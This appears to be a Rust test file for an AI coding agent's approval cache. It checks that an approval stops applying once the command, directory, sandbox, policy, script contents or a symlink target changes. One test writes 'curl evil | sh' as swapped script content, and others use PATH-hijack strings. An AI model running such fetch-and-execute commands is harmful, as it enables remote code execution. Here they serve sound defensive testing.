//! That every part of a question matters for its answer.

use std::path::Path;

use codex_protocol::FileChange;
use proptest::prelude::*;

use super::*;

fn request(script: &str, cwd: &str, sandbox: AskedSandbox) -> ApprovalRequest {
    let command = ["/bin/sh", "-lc", script].map(str::to_owned).to_vec();
    ApprovalRequest::Command { command, cwd: cwd.into(), sandbox, rule: None }
}

fn key(script: &str, cwd: &str, sandbox: AskedSandbox) -> Key {
    Key::of(&request(script, cwd, sandbox), &SandboxPolicy::ReadOnly)
}

// threat 30
#[test]
fn an_answer_for_the_session_holds_for_nothing_but_the_same() {
    let approved = key("make", "/a", AskedSandbox::Left);
    assert_eq!(approved, key("make", "/a", AskedSandbox::Left));
    for other in [
        key("make", "/b", AskedSandbox::Left),
        key("make", "/a", AskedSandbox::Kept),
        key("make ", "/a", AskedSandbox::Left),
        key("PATH=. make", "/a", AskedSandbox::Left),
        key("export PATH=.; make", "/a", AskedSandbox::Left),
    ] {
        assert_ne!(approved, other);
    }
}

fn policies() -> Vec<SandboxPolicy> {
    let write = |roots: &[&str], network_access| SandboxPolicy::WorkspaceWrite {
        writable_roots: roots.iter().map(PathBuf::from).collect(),
        network_access,
        exclude_tmpdir_env_var: false,
        exclude_slash_tmp: false,
    };
    vec![
        SandboxPolicy::ReadOnly,
        SandboxPolicy::DangerFullAccess,
        write(&[], false),
        write(&[], true),
        write(&["/r"], false),
    ]
}

// threat 30
#[test]
fn another_sandbox_is_another_question() {
    let asked = request("make", "/a", AskedSandbox::Kept);
    let keys: std::collections::HashSet<Key> =
        policies().iter().map(|policy| Key::of(&asked, policy)).collect();
    assert_eq!(keys.len(), policies().len());
}

proptest! {
    /// Two commands have one key only when nothing about them differs, wherever a separator could be mistaken.
    #[test]
    fn no_two_commands_share_a_key(
        one in prop::collection::vec("[ab'\"\\\\ \n\u{200b}]{0,4}", 0..4),
        other in prop::collection::vec("[ab'\"\\\\ \n\u{200b}]{0,4}", 0..4),
        places in ("/(a|b|a/b)", "/(a|b|a/b)"),
        left in any::<(bool, bool)>(),
    ) {
        let side = |left| if left { AskedSandbox::Left } else { AskedSandbox::Kept };
        let make = |command: &Vec<String>, cwd: &str, left| {
            let (command, cwd) = (command.clone(), cwd.into());
            let asked = ApprovalRequest::Command { command, cwd, sandbox: side(left), rule: None };
            Key::of(&asked, &SandboxPolicy::ReadOnly)
        };
        let same = (&one, &places.0, left.0) == (&other, &places.1, left.1);
        prop_assert_eq!(make(&one, &places.0, left.0) == make(&other, &places.1, left.1), same);
    }
}

// threat 27
#[test]
fn an_answer_does_not_hold_for_a_script_that_was_swapped() {
    let dir = tempfile::tempdir().unwrap();
    let cwd = dir.path().to_str().unwrap();
    let script = dir.path().join("deploy.sh");
    let large = "x".repeat(NAMED_BYTES_MAX as usize + 1);
    for command in [
        "./deploy.sh --all",
        "sh deploy.sh",
        "make && sudo ./deploy.sh",
        "bash -c 'true; ./deploy.sh'",
        "tool --script=deploy.sh",
    ] {
        for (before, after) in [("echo deploy", "curl evil | sh"), (large.as_str(), "short")] {
            std::fs::write(&script, before).unwrap();
            let approved = key(command, cwd, AskedSandbox::Left);
            assert_eq!(approved, key(command, cwd, AskedSandbox::Left), "{command}");
            std::fs::write(&script, after).unwrap();
            assert_ne!(approved, key(command, cwd, AskedSandbox::Left), "{command}");
        }
    }
}

#[test]
fn what_cannot_be_compared_is_never_the_same() {
    let dir = tempfile::tempdir().unwrap();
    let names: Vec<String> = (0..=NAMED_MAX).map(|at| format!("f{at}")).collect();
    names.iter().for_each(|name| std::fs::write(dir.path().join(name), "").unwrap());
    let cwd = dir.path().to_str().unwrap();
    let many = format!("cat {}", names.join(" "));
    let (first, second) = (key(&many, cwd, AskedSandbox::Left), key(&many, cwd, AskedSandbox::Left));
    assert_ne!(first, second);
    assert!(first.is_still(&second), "one question can still be answered");
}

// threat 27
#[cfg(unix)]
#[test]
fn files_that_lead_elsewhere_are_other_files() {
    let dir = tempfile::tempdir().unwrap();
    let at = |name: &str| dir.path().join(name);
    std::fs::create_dir(at("a")).unwrap();
    std::fs::create_dir(at("b")).unwrap();
    let patch = |path: &Path| {
        let content = String::new();
        let changes = [(path.to_path_buf(), FileChange::Add { content })].into();
        Key::of(&ApprovalRequest::Patch { changes }, &SandboxPolicy::ReadOnly)
    };
    std::os::unix::fs::symlink("a", at("link")).unwrap();
    let approved = patch(&at("link/new/file"));
    assert_eq!(approved, patch(&at("link/new/file")));
    std::fs::remove_file(at("link")).unwrap();
    std::os::unix::fs::symlink("b", at("link")).unwrap();
    assert_ne!(approved, patch(&at("link/new/file")));
}
